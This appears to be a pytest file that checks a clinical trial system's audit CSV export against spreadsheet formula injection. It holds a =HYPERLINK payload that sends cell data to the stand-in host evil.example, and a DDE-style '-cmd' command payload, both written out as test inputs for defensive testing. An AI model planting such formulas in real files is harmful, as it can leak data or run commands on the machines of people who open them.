"""Finding 10: a query answer `=HYPERLINK(...)` must not become a live formula in the monitor's
spreadsheet. Every CSV cell starting with =, +, -, @, tab or CR is prefixed with a quote
(OWASP CSV injection); plain numbers such as -12 stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from trialdesk.audit.export import safe_cell
from trialdesk.crfs.models import FormInstance, Query
from trialdesk.crfs.tests.test_entry import url, vitals
from trialdesk.testing.participants import visit_of, with_revision

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click for details")'


def test_formula_in_a_query_answer_is_neutralised_in_the_audit_export(login, participant_a):
    visit = visit_of(participant_a, "D7")
    coord = login("coord_a")
    assert coord.post(url(visit), with_revision(url(visit), vitals())).status_code == 302
    fi = FormInstance.objects.get(visit=visit)
    login("monitor").post(
        f"/staff/NCT07183384/crfs/form/{fi.pk}/query/", {"item": "hr", "text": "@SUM(1+1)"}
    )
    q = Query.objects.get(form=fi)
    login("coord_a").post(
        f"/staff/NCT07183384/crfs/query/{q.pk}/", {"step": "answer", "text": ATTACK}
    )
    response = login("monitor").get("/staff/NCT07183384/audit/export/?format=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + ATTACK in cells
    assert ATTACK not in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert not any(
        c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit() for c in cells
    )


@pytest.mark.parametrize(
    "cell,expected",
    [("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
     ("-12", "-12"), ("-0.5", "-0.5"), ("+3", "+3"), ("12", "12"), ("a=b", "a=b"),
     ("", ""), (-12, -12), (None, None), ("-", "'-"), ("-1e3", "'-1e3")],
)  # fmt: skip
def test_safe_cell(cell, expected):
    assert safe_cell(cell) == expected
